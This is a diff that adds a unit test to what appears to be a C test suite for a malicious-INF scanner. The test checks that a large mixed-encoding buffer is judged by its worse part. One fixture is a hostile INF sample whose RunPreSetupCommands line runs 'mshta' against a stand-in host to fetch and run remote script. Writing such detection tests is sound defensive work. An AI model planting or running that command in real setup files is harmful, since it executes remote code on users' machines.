@@ -336,6 +336,40 @@ static void test_bytes_of_two_texts_are_judged_by_the_worse(void **state)
     infscan_result_free(result);
 }
 
+/* The same with so much around it that the readings are made one after the
+ * other: the worse one counts, whichever that is. */
+static void test_large_bytes_of_two_texts_are_judged_by_the_worse(void **state)
+{
+    static const char worse[] = "\n[Version]\nSignature=$CHICAGO$\n"
+                                "[DefaultInstall]\nRunPreSetupCommands=R\n[R]\n"
+                                "mshta http://example.invalid/a\n";
+    static const char better[] = "\n[Version]\nSignature=$CHICAGO$\n";
+    size_t size = (size_t)3 << 20;
+    char *raw = malloc(size);
+
+    (void)state;
+    assert_non_null(raw);
+    for (int is_narrow = 0; is_narrow < 2; is_narrow++) {
+        const char *narrow = is_narrow ? worse : better;
+        const char *wide = is_narrow ? better : worse;
+        for (size_t i = 0; i < size / 2; i++) {
+            char c = i % 40 ? 'x' : '\n';
+            raw[2 * i] = i < strlen(wide) ? wide[i] : c;
+            raw[2 * i + 1] = '\0';
+        }
+        memcpy(raw + size / 2, narrow, strlen(narrow));
+        struct infscan_result *result = scan(str_of(raw, size));
+        assert_int_equal(infscan_result_summary(result)->verdict,
+                         INFSCAN_MALICIOUS);
+        assert_string_equal(infscan_result_summary(result)->encoding,
+                            is_narrow ? "windows-1252" : "utf-16le");
+        assert_true(has_diagnostic(result, "INF0030"));
+        assert_int_equal(infscan_result_summary(result)->size, size);
+        infscan_result_free(result);
+    }
+    free(raw);
+}
+
 static void test_each_language_is_read(void **state)
 {
     struct infscan_result *result =
@@ -524,6 +558,7 @@ int main(void)
         cmocka_unit_test(test_one_command_without_an_inf),
         cmocka_unit_test(test_bytes_that_readers_take_differently),
         cmocka_unit_test(test_bytes_of_two_texts_are_judged_by_the_worse),
+        cmocka_unit_test(test_large_bytes_of_two_texts_are_judged_by_the_worse),
         cmocka_unit_test(test_each_language_is_read),
         cmocka_unit_test(test_lines_of_the_file),
     };
